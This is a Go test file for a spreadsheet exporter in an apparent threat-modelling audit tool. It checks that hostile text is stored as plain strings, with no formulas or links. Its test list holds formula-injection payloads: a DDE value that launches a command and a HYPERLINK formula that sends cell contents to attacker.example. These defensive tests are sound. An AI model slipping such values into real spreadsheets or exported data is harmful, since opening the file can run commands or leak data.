package xlsx

import (
	"bytes"
	"encoding/xml"
	"errors"
	"io"
	"strings"
	"testing"
	"unicode/utf16"

	"github.com/auditpack/auditpack/audit"
	"github.com/auditpack/auditpack/audit/eval"
	"github.com/auditpack/auditpack/audit/model"
	"github.com/xuri/excelize/v2"
)

// hostile are names an attacker could put in a threat model or manifest
// to make a spreadsheet run a formula or follow a link.
var hostile = []string{
	"=1+1",
	"+cmd|' /C calc'!A0",
	"-2+3",
	"@SUM(1,2)",
	`=HYPERLINK("http://attacker.example/?x="&A1,"click")`,
	"Payments =HYPERLINK(\"http://attacker.example\")",
	"\t=1+1",
	"\r\n=1+1",
	"＝1+1",
	"<script>&amp;</script>",
	"_x0041_",
}

// hostileResults builds small results whose every text field is hostile.
func hostileResults() *audit.Results {
	r := &audit.Results{SchemaVersion: audit.SchemaVersion, Tool: audit.Tool{Name: "auditpack", Version: "=1+1"},
		Project: audit.Project{Organisation: "=HYPERLINK(\"http://x\")", System: "@system", AsOf: "2026-01-31"}}
	for i, h := range hostile {
		id := strings.Repeat("x", i) + h
		r.Model.Components = append(r.Model.Components, model.Component{ID: id, Name: h, Kind: model.KindProcess,
			Zone: h, Tags: []string{h}, Description: h, Ref: h})
		r.Model.Zones = append(r.Model.Zones, model.Zone{ID: id, Name: h, Parent: h, Tags: []string{h}})
		r.Model.Flows = append(r.Model.Flows, audit.FlowInfo{Flow: model.Flow{ID: id, Name: h, Source: id, Target: h,
			Protocol: h, Data: []string{h}}, Crossing: model.Crossing{Left: []string{h}}, Classifications: []string{h}})
		r.Model.Threats = append(r.Model.Threats, model.Threat{ID: id, Title: h, Status: h, Targets: []string{h}, Mitigations: []string{h}})
		r.Model.Mitigations = append(r.Model.Mitigations, model.Mitigation{ID: id, Title: h, Status: h, Targets: []string{h},
			Provides: []model.Provision{{Capability: h, Params: map[string]any{h: h}}}})
		r.Controls = append(r.Controls, audit.Control{Framework: h, ID: h, Name: h, Verdict: eval.Verdict(h), Coverage: h,
			Reason: h, Rules: []string{h}, Evidence: []string{h},
			Findings: []audit.Finding{{Rule: h, Element: eval.ElementRef{ID: h, Kind: h, Name: h}, Verdict: eval.Verdict(h), Assessed: eval.Verdict(h), Note: h}}})
		r.RuleResults = append(r.RuleResults, eval.Result{Rule: h, Element: eval.ElementRef{ID: h}, Verdict: eval.Verdict(h),
			Reasons:     []eval.Reason{{Code: h, Message: h}},
			Mitigations: []eval.MitigationUse{{ID: h, Title: h, Capability: h, Status: h, On: h, Problem: h}},
			Evidence:    []eval.EvidenceUse{{Item: h, Status: h}}})
		r.Evidence.Items = append(r.Evidence.Items, audit.EvidenceItem{ID: id, Title: h, Kind: h, Status: h, Owner: h})
		r.Exceptions = append(r.Exceptions, audit.ExceptionInfo{ID: id, Type: h, Control: h, Justification: h, Approver: h, Status: h})
		r.Inputs = append(r.Inputs, audit.InputFile{Role: h, Name: h, Format: h, SHA256: h})
		r.Warnings = append(r.Warnings, audit.Warning{Source: h, Message: h})
	}
	return r
}

var formulaRE = []string{"<f>", "<f ", "<f/>"}

// TestHostileTextStaysText renders hostile names and checks, in the raw
// XML, that no sheet holds a formula and nothing links anywhere.
func TestHostileTextStaysText(t *testing.T) {
	data := render(t, hostileResults(), Options{PackageID: "=1+1", Signer: "=HYPERLINK(\"http://x\")"})
	files := entries(t, data)
	sheets := 0
	for name, body := range files {
		if strings.Contains(strings.ToLower(name), "rels") && strings.Contains(strings.ToLower(body), "hyperlink") {
			t.Errorf("%s holds a hyperlink relationship", name)
		}
		if !strings.HasPrefix(name, "xl/worksheets/") || !strings.HasSuffix(name, ".xml") {
			continue
		}
		sheets++
		for _, f := range formulaRE {
			if strings.Contains(body, f) {
				t.Errorf("%s holds a formula element %s", name, f)
			}
		}
		if strings.Contains(body, "<hyperlink") {
			t.Errorf("%s holds a hyperlink", name)
		}
		if strings.Contains(body, `t="str"`) || strings.Contains(body, `t="e"`) {
			t.Errorf("%s holds a formula-result cell", name)
		}
		wellFormed(t, name, body)
	}
	if sheets != len(Sheets) {
		t.Fatalf("scanned %d sheets, want %d", sheets, len(Sheets))
	}
	wb := files["xl/workbook.xml"]
	for _, h := range []string{"HYPERLINK", "SUM", "cmd"} {
		if strings.Contains(wb, h) {
			t.Errorf("workbook.xml (defined names) mentions %q", h)
		}
	}
}

// TestHostileTextReadsBack checks that hostile text comes back exactly as
// given (after cleaning), as a string, in the cells it went to.
func TestHostileTextReadsBack(t *testing.T) {
	f := open(t, render(t, hostileResults(), Options{}))
	rows, err := f.GetRows(SheetComponents)
	if err != nil {
		t.Fatal(err)
	}
	for i, h := range hostile {
		cell, _ := excelize.CoordinatesToCellName(2, i+2)
		if got := rows[i+1][1]; got != clean(h) {
			t.Errorf("Components %s = %q, want %q", cell, got, clean(h))
		}
		typ, _ := f.GetCellType(SheetComponents, cell)
		if typ != excelize.CellTypeInlineString {
			t.Errorf("Components %s type %v, want an inline string", cell, typ)
		}
		if v, _ := f.GetCellFormula(SheetComponents, cell); v != "" {
			t.Errorf("Components %s has formula %q", cell, v)
		}
	}
}

func TestIDsStayText(t *testing.T) {
	ids := []string{"1.2", "10.2.1", "1e5", "0012", "12.30", "TRUE", "2026-01-31", "3/4"}
	r := &audit.Results{Project: audit.Project{AsOf: "2026-01-31"}}
	for _, id := range ids {
		r.Controls = append(r.Controls, audit.Control{Framework: "pci-dss@4.0.1", ID: id, Verdict: eval.Manual})
	}
	f := open(t, render(t, r, Options{}))
	for i, id := range ids {
		cell, _ := excelize.CoordinatesToCellName(2, i+2)
		got, _ := f.GetCellValue(SheetControls, cell, excelize.Options{RawCellValue: true})
		typ, _ := f.GetCellType(SheetControls, cell)
		if got != id || typ != excelize.CellTypeInlineString {
			t.Errorf("control id %q stored as %q (type %v)", id, got, typ)
		}
	}
}

func TestCleanText(t *testing.T) {
	long := strings.Repeat("é😀", maxCellUnits)
	for _, tc := range []struct{ in, want string }{
		{"plain", "plain"},
		{"bad \xff\xfe utf-8", "bad \uFFFD utf-8"},
		{"nul\x00bell\x07esc\x1b", "nul\uFFFDbell\uFFFDesc\uFFFD"},
		{"crlf\r\nlf\ncr\rtab\t", "crlf\nlf\ncr\ntab\t"},
		{"日本語 עברית 😀", "日本語 עברית 😀"},
	} {
		if got := clean(tc.in); got != tc.want {
			t.Errorf("clean(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
	got := clean(long)
	if n := len(utf16.Encode([]rune(got))); n > maxCellUnits || !strings.HasSuffix(got, truncated) {
		t.Errorf("long text: %d UTF-16 units, marked %v", n, strings.HasSuffix(got, truncated))
	}
}

// TestHugeTextCutVisibly renders a cell longer than a spreadsheet allows:
// it must come back cut, with the marker, not silently shortened.
func TestHugeTextCutVisibly(t *testing.T) {
	r := &audit.Results{Project: audit.Project{AsOf: "2026-01-31"}}
	r.Model.Components = []model.Component{{ID: "big", Name: strings.Repeat("€", 40000), Description: "\xff" + strings.Repeat("a", 70000)}}
	f := open(t, render(t, r, Options{}))
	rows, _ := f.GetRows(SheetComponents)
	for _, v := range []string{rows[1][1], rows[1][15]} {
		if !strings.HasSuffix(v, truncated) || len(utf16.Encode([]rune(v))) > maxCellUnits {
			t.Errorf("huge cell not cut visibly: %d units, ends %q", len(utf16.Encode([]rune(v))), v[len(v)-20:])
		}
	}
}

func TestEmptyResults(t *testing.T) {
	f := open(t, render(t, &audit.Results{Project: audit.Project{AsOf: "2026-01-31"}}, Options{}))
	for _, sheet := range tableSheets() {
		want := 1
		if sheet == SheetInputs {
			want = 2 // the tool is always an input
		}
		if rows, _ := f.GetRows(sheet); len(rows) != want {
			t.Errorf("%s has %d rows, want %d", sheet, len(rows), want)
		}
	}
}

func TestRefusesUnusableResults(t *testing.T) {
	var buf bytes.Buffer
	if err := Render(&buf, nil, Options{}); err == nil {
		t.Error("nil results rendered")
	}
	if err := Render(&buf, &audit.Results{}, Options{}); err == nil || !strings.Contains(err.Error(), "as-of") {
		t.Errorf("results without an as-of date: %v", err)
	}
	err := Render(failingWriter{}, &audit.Results{Project: audit.Project{AsOf: "2026-01-31"}}, Options{})
	if !errors.Is(err, errWrite) {
		t.Errorf("write error not passed on: %v", err)
	}
}

var errWrite = errors.New("disk full")

type failingWriter struct{}

func (failingWriter) Write([]byte) (int, error) { return 0, errWrite }

func wellFormed(t *testing.T, name, body string) {
	t.Helper()
	d := xml.NewDecoder(strings.NewReader(body))
	for {
		_, err := d.Token()
		if err == io.EOF {
			return
		}
		if err != nil {
			t.Errorf("%s is not well-formed XML: %v", name, err)
			return
		}
	}
}
